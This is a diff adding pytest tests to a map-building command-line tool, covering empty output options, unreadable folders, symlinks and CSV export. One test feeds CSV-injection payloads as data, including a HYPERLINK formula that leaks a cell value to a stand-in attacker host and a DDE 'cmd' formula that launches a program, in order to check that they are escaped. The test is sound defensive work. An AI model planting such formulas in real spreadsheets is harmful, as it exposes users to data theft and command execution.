@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import os
@@ -448,3 +449,206 @@ def test_files_of_an_earlier_build_left_beside_the_new_ones_are_named(runner, tm
     warned = " ".join(r.getMessage() for r in caplog.records if r.levelname == "WARNING")
     assert "files of an earlier build" in warned and "places.geojson" in warned
     assert "map.html" not in warned.split("now):")[-1]
+
+
+@pytest.mark.parametrize("value", ["", "  "])
+def test_an_empty_out_option_is_a_usage_error_and_writes_nothing_here(runner, tmp_path,
+                                                                      monkeypatch, value):
+    """`--out "$OUT"` with OUT unset: not a build into the current folder."""
+    article = good_article(tmp_path)
+    here = tmp_path / "here"
+    here.mkdir()
+    monkeypatch.chdir(here)
+    result = runner.invoke(cli, ["build", str(article), "--out", value], prog_name="geomap")
+    assert result.exit_code == 2, result.output
+    assert result.output.strip().splitlines() == [
+        "Error: Invalid value for '--out' / '-o': must not be empty (name a folder; '.' is "
+        "this one) (see 'geomap build --help')"]
+    assert list(here.iterdir()) == []
+
+
+def test_csv_text_cells_that_a_spreadsheet_would_run_are_quoted(runner, tmp_path):
+    """Article ids and text starting with =, +, @ or - reach incidents.csv with a ' before
+    them (numbers stay numbers); the GeoJSON keeps them as they are."""
+    corpus = tmp_path / "hostile.jsonl"
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "-cmd|x",
+               "+cmd|' /C calc'!A0"]
+    with corpus.open("w", encoding="utf-8") as fh:
+        for ident in hostile:
+            fh.write(json.dumps({"id": ident, "text": f"{hostile[3]} {GOOD}"}) + "\n")
+    out = tmp_path / "out"
+    result = runner.invoke(cli, ["build", str(corpus), "--out", str(out), "--published",
+                                 "2022-10-17", "--format", "csv,geojson"])
+    assert result.exit_code == 0, result.output
+    with open(out / "incidents.csv", encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert rows
+    from geomap.export.acled import CSV_COLUMNS
+    text_columns = [name for name, kind in CSV_COLUMNS if kind == "String"]
+    for row in rows:
+        for name in text_columns:
+            assert not row[name][:1] in ("=", "+", "@", "-", "\t", "\r"), (name, row[name])
+        float(row["latitude"]), float(row["longitude"]), int(row["fatalities"])
+    cells = {cell for row in rows for name in ("source", "articles", "event_id_cnty", "notes")
+             for cell in row[name].split("; ")}
+    assert {"'" + ident for ident in hostile} & cells
+    assert any(row["notes"].startswith("'+cmd|") for row in rows)
+    features = json.loads((out / "incidents.geojson").read_text(encoding="utf-8"))["features"]
+    ids = {a for f in features for a in f["properties"]["articles"]}
+    assert ids & set(hostile) and not any(i.startswith("'") for i in ids)
+
+
+@pytest.fixture
+def lock(monkeypatch):
+    """``lock(folder)``: chmod 000, and where that does not stop this user (root), the
+    folder is refused as the system would refuse it (``os.scandir``)."""
+    locked = []
+
+    def lock(folder: Path) -> None:
+        folder.chmod(0)
+        locked.append(folder)
+        try:
+            os.listdir(folder)
+        except PermissionError:
+            return
+        real_scandir, refused = os.scandir, os.path.realpath(folder)
+
+        def scandir(path="."):
+            if isinstance(path, (str, os.PathLike)) and os.path.realpath(path) == refused:
+                raise PermissionError(13, "Permission denied", os.fspath(path))
+            return real_scandir(path)
+
+        monkeypatch.setattr(os, "scandir", scandir)
+
+    yield lock
+    for folder in locked:
+        folder.chmod(0o755)
+
+
+def test_an_unreadable_subfolder_and_a_broken_link_are_named_and_the_rest_is_built(
+        runner, tmp_path, lock):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    good_article(folder)
+    (folder / "locked").mkdir()
+    good_article(folder / "locked", "hidden_away.txt")
+    (folder / "dangling.txt").symlink_to(tmp_path / "gone.txt")
+    lock(folder / "locked")
+    out = tmp_path / "out"
+    result = runner.invoke(cli, ["build", str(folder), "--out", str(out)])
+    assert result.exit_code == 3, result.output
+    assert "Traceback" not in result.output
+    lines = result.output.splitlines()
+    assert (f"geomap: skipped {folder / 'locked'}: cannot read the folder (Permission "
+            "denied); its articles are left out") in lines
+    assert (f"geomap: skipped {folder / 'dangling.txt'}: a link that leads to no file "
+            f"({tmp_path / 'gone.txt'})") in lines
+    assert "1 article(s)" in result.output and "2 article(s) skipped" in result.output
+    assert ALL_FILES <= {p.name for p in out.iterdir()}
+
+
+def test_strict_makes_an_unreadable_subfolder_fatal(runner, tmp_path, lock,
+                                                    previous_outputs):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    good_article(folder)
+    (folder / "locked").mkdir()
+    lock(folder / "locked")
+    before = snapshot(previous_outputs)
+    result = runner.invoke(cli, ["build", str(folder), "--strict", "--out",
+                                 str(previous_outputs)])
+    assert result.exit_code == 1 and "Permission denied" in result.output, result.output
+    assert len(result.output.strip().splitlines()) == 1
+    assert snapshot(previous_outputs) == before
+
+
+def test_an_unreadable_folder_given_is_said_to_be_unreadable(runner, tmp_path, lock,
+                                                             previous_outputs):
+    folder = tmp_path / "locked"
+    folder.mkdir()
+    good_article(folder)
+    lock(folder)
+    before = snapshot(previous_outputs)
+    result = runner.invoke(cli, ["build", str(folder), "--out", str(previous_outputs)])
+    assert result.exit_code == 1, result.output
+    assert result.output.strip().splitlines() == [
+        f"Error: {folder}: cannot read the folder (Permission denied)"]
+    assert snapshot(previous_outputs) == before
+
+
+def test_files_of_other_kinds_in_a_folder_are_counted_in_one_warning(runner, tmp_path,
+                                                                     caplog):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    good_article(folder)
+    for name in ("notes.md", "feed.jsonl", "list.csv", "README"):
+        (folder / name).write_text(GOOD, encoding="utf-8")
+    (folder / ".hidden.md").write_text(GOOD, encoding="utf-8")
+    result = runner.invoke(cli, ["build", str(folder), "--out", str(folder / "maps"),
+                                 "--published", "2022-10-17"])
+    assert result.exit_code == 0, result.output
+    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
+    assert warned == [f"{folder}: 4 file(s) of other kinds left out (.csv, .jsonl, .md, "
+                      "no extension); a folder is read for its .txt articles and "
+                      ".html/.htm pages"], warned
+    # the maps geomap wrote into the folder are not counted the next time
+    caplog.clear()
+    again = runner.invoke(cli, ["build", str(folder), "--out", str(folder / "maps"),
+                                "--published", "2022-10-17"])
+    assert again.exit_code == 0, again.output
+    assert [r.getMessage() for r in caplog.records if r.levelname == "WARNING"] == warned
+
+
+def test_a_folder_of_other_kinds_only_says_what_it_holds(runner, tmp_path,
+                                                         previous_outputs):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "notes.md").write_text(GOOD, encoding="utf-8")
+    (folder / "list.csv").write_text(GOOD, encoding="utf-8")
+    before = snapshot(previous_outputs)
+    result = runner.invoke(cli, ["build", str(folder), "--out", str(previous_outputs)])
+    assert result.exit_code == 1
+    assert result.output.strip().splitlines() == [
+        f"Error: {folder}: the folder holds no .txt articles or .html pages (only 2 file(s) "
+        "of other kinds: .csv, .md)"]
+    assert snapshot(previous_outputs) == before
+
+
+def test_a_link_beside_its_file_and_a_link_back_up_are_no_second_article(runner, tmp_path,
+                                                                          caplog):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    good_article(folder, "plain.txt")
+    (folder / "a_link_to_plain.txt").symlink_to("plain.txt")
+    (folder / "loop").symlink_to("..")
+    (folder / "sub").mkdir()
+    (folder / "sub" / "up").symlink_to("../..")
+    out = tmp_path / "out"
+    result = runner.invoke(cli, ["build", str(folder), "--out", str(out), "--published",
+                                 "2022-10-17"])
+    assert result.exit_code == 0, result.output
+    assert "1 article(s)" in result.output
+    assert not [r for r in caplog.records if r.levelname == "WARNING"]
+    features = json.loads((out / "incidents.geojson").read_text(encoding="utf-8"))["features"]
+    assert {a for f in features for a in f["properties"]["articles"]} == {"plain.txt"}
+
+
+def test_a_subfolder_that_lists_but_cannot_be_entered_names_its_files(runner, tmp_path):
+    folder = tmp_path / "in"
+    (folder / "sub").mkdir(parents=True)
+    good_article(folder)
+    good_article(folder / "sub", "inside.txt")
+    (folder / "sub").chmod(0o444)
+    try:
+        try:
+            (folder / "sub" / "inside.txt").stat()
+            pytest.skip("permissions do not stop this user (root)")
+        except PermissionError:
+            pass
+        result = runner.invoke(cli, ["build", str(folder), "--out", str(tmp_path / "out"),
+                                     "--format", "csv"])
+    finally:
+        (folder / "sub").chmod(0o755)
+    assert result.exit_code == 3, result.output
+    assert (f"geomap: skipped {folder / 'sub' / 'inside.txt'}: cannot read file "
+            "(Permission denied)") in result.output.splitlines()
